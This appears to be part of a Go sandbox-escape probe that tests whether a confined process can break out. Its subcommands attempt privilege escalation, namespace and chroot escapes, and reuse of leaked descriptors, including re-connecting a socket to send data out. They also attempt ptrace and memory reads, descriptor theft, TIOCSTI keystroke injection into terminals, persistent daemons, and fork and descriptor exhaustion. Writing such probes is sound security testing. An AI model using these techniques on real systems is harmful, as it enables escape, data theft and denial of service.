package main

import (
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net/http"
	"os"
	"os/exec"
	"os/signal"
	"path/filepath"
	"runtime"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// raise tries to become more than it is.
func raise([]string) error {
	runtime.LockOSThread()
	for _, f := range []struct {
		what string
		do   func() error
	}{
		{"setuid 0", func() error { return need(unix.Getuid() != 0, unix.Setresuid(0, 0, 0)) }},
		{"user namespace", func() error { return unix.Unshare(unix.CLONE_NEWUSER) }},
		{"network namespace", func() error { return unix.Unshare(unix.CLONE_NEWNET) }},
		{"mount namespace", func() error { return unix.Unshare(unix.CLONE_NEWNS) }},
		{"network namespace of pid 1", func() error {
			f, err := os.Open("/proc/1/ns/net")
			if err != nil {
				return err
			}
			return unix.Setns(int(f.Fd()), unix.CLONE_NEWNET)
		}},
		{"chroot", func() error { return unix.Chroot("/tmp") }},
		{"bpf", func() error {
			var attr [128]byte
			binary.NativeEndian.PutUint32(attr[0:], 1)
			binary.NativeEndian.PutUint32(attr[4:], 4)
			binary.NativeEndian.PutUint32(attr[8:], 4)
			binary.NativeEndian.PutUint32(attr[12:], 1)
			_, _, errno := unix.Syscall(unix.SYS_BPF, 0, addressOf(attr[:]), uintptr(len(attr)))
			return errOf(errno)
		}},
		{"device node", func() error { return unix.Mknod("sda", unix.S_IFBLK|0o600, int(unix.Mkdev(8, 0))) }},
		{"setuid file", func() error {
			if err := os.WriteFile("suid", []byte("#!/bin/sh\n"), 0o755); err != nil {
				return err
			}
			err := unix.Chmod("suid", 0o4755)
			st, statErr := os.Stat("suid")
			return errors.Join(need(statErr == nil && st.Mode()&os.ModeSetuid != 0, err), statErr)
		}},
	} {
		if err := f.do(); err == nil {
			got("%s", f.what)
		} else {
			fmt.Println(f.what, err)
		}
	}
	return nil
}

func need(ok bool, err error) error {
	if !ok && err == nil {
		return errors.New("nothing gained")
	}
	return err
}

func errOf(e syscall.Errno) error {
	if e == 0 {
		return nil
	}
	return e
}

// fds ADDR:PORT PAYLOAD: uses whatever descriptor was left open to us.
func descriptors(args []string) error {
	entries, err := os.ReadDir("/proc/self/fd")
	if err != nil {
		return err
	}
	for _, e := range entries {
		fd := number(e.Name())
		var st unix.Stat_t
		if unix.Fstat(fd, &st) != nil {
			continue
		}
		link, _ := os.Readlink("/proc/self/fd/" + e.Name())
		switch st.Mode & unix.S_IFMT {
		case unix.S_IFDIR:
			for _, up := range []string{".", "..", "../..", "../../.."} {
				d, err := unix.Openat(fd, filepath.Join(up, args[2]), unix.O_RDONLY, 0)
				if err == nil {
					b, _ := io.ReadAll(os.NewFile(uintptr(d), "escape"))
					got("%s through descriptor %d (%s)", b, fd, link)
				}
			}
		case unix.S_IFSOCK:
			family, _ := unix.GetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_DOMAIN)
			fmt.Println("socket", fd, family)
			if family == unix.AF_INET || family == unix.AF_INET6 {
				unix.Connect(fd, &unix.SockaddrInet4{}) // dissolved; see connect(2) on AF_UNSPEC
				dissolve(fd)
				_, sa, err := sockaddr(args[0])
				if err != nil {
					return err
				}
				fmt.Println("connect again:", unix.Connect(fd, sa))
				unix.Write(fd, []byte(text(args[1])))
			}
		default:
			fmt.Println("descriptor", fd, link)
		}
	}
	return nil
}

// trace PID: attach, and read its memory by every way there is.
func trace(args []string) error {
	runtime.LockOSThread()
	pid := number(args[0])
	if err := unix.PtraceAttach(pid); err == nil {
		got("ptrace of %d", pid)
		unix.Wait4(pid, nil, 0, nil)
		unix.PtraceDetach(pid)
	} else {
		fmt.Println("attach:", err)
	}
	b := make([]byte, 8)
	if f, err := os.Open(fmt.Sprintf("/proc/%d/environ", pid)); err == nil {
		env, _ := io.ReadAll(f)
		fmt.Printf("environ %q\n", env)
	} else {
		fmt.Println("environ:", err)
	}
	if _, err := unix.ProcessVMReadv(pid, []unix.Iovec{{Base: &b[0], Len: 8}}, []unix.RemoteIovec{{Base: 0x400000, Len: 8}}, 0); err == nil {
		got("memory of %d", pid)
	} else {
		fmt.Println("process_vm_readv:", err)
	}
	return nil
}

// pidfd PID: take its descriptors.
func pidFD(args []string) error {
	p, err := unix.PidfdOpen(number(args[0]), 0)
	if err != nil {
		return fmt.Errorf("pidfd_open: %w", err)
	}
	for fd := range 16 {
		if f, err := unix.PidfdGetfd(p, fd, 0); err == nil {
			link, _ := os.Readlink(fmt.Sprint("/proc/self/fd/", f))
			got("descriptor %d: %s", fd, link)
		} else {
			fmt.Println("pidfd_getfd:", err)
		}
	}
	return nil
}

// terminal TEXT: type it into every terminal there is.
func terminal(args []string) error {
	names, _ := filepath.Glob("/dev/pts/*")
	for _, n := range append([]string{"/dev/stdin", "/dev/stdout", "/dev/tty", "/dev/console", "/dev/tty1"}, names...) {
		f, err := os.OpenFile(n, os.O_RDWR|unix.O_NOCTTY, 0)
		if err != nil {
			fmt.Println(n, err)
			continue
		}
		for _, c := range []byte(args[0] + "\n") {
			b := c
			_, _, errno := unix.Syscall(unix.SYS_IOCTL, f.Fd(), unix.TIOCSTI, addressOf([]byte{b}))
			if errno != 0 {
				fmt.Println(n, "TIOCSTI", errno)
				break
			}
			if c == '\n' {
				got("TIOCSTI on %s", n)
			}
		}
		// The upper half of a 64-bit request is ignored by the kernel (CVE-2019-10063).
		if _, _, errno := unix.Syscall(unix.SYS_IOCTL, f.Fd(), 1<<32|unix.TIOCSTI, addressOf([]byte("x"))); errno == 0 {
			got("TIOCSTI with high bits on %s", n)
		}
		if _, _, errno := unix.Syscall(unix.SYS_IOCTL, f.Fd(), unix.TIOCLINUX, addressOf([]byte{3, 0})); errno == 0 {
			got("TIOCLINUX on %s", n)
		}
	}
	return nil
}

// daemon MARK FILE: leave a process behind that nothing of ours waits for.
func daemon(args []string) error {
	cmd := exec.Command("/proc/self/exe", "act", "linger", args[0], args[1])
	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
	if err := cmd.Start(); err != nil {
		return err
	}
	fmt.Println("left", cmd.Process.Pid)
	return nil
}

// linger MARK FILE: ignore every signal and write, for ever.
func linger(args []string) error {
	signal.Ignore()
	for range time.Tick(5 * time.Millisecond) {
		f, err := os.OpenFile(args[1], os.O_CREATE|os.O_APPEND|os.O_WRONLY, 0o600)
		if err == nil {
			fmt.Fprintln(f, args[0])
			f.Close()
		}
	}
	return nil
}

// forks N: as many processes as can be had.
func forks(args []string) error {
	var made []*os.Process
	var last error
	for range number(args[0]) {
		p, err := os.StartProcess("/bin/sleep", []string{"sleep", "60"}, &os.ProcAttr{})
		if err != nil {
			last = err
			break
		}
		made = append(made, p)
	}
	fmt.Println("processes", len(made), last)
	for _, p := range made {
		p.Kill()
		p.Wait()
	}
	return nil
}

// openfiles N: as many descriptors as can be had.
func openFiles(args []string) error {
	n := 0
	for range number(args[0]) {
		if _, err := unix.Open("/dev/null", unix.O_RDONLY, 0); err != nil {
			fmt.Println("open:", err)
			break
		}
		n++
	}
	fmt.Println("descriptors", n)
	return nil
}

// many N URL: requests one after the other, with their number at the end.
func many(args []string) error {
	answers := map[string]int{}
	client := &http.Client{Timeout: patience()}
	for i := range number(args[0]) {
		resp, err := client.Get(args[1] + fmt.Sprint(i) + "?" + strings.Repeat("x", 900))
		if err != nil {
			answers["error"]++
			continue
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		answers[resp.Status]++
	}
	fmt.Println("answers", answers)
	return nil
}

// getwait FILE URL: a request as soon as a file is there.
func getWait(args []string) error {
	for range time.Tick(10 * time.Millisecond) {
		if _, err := os.Stat(args[0]); err == nil {
			break
		}
	}
	return get([]string{"GET", args[1]})
}
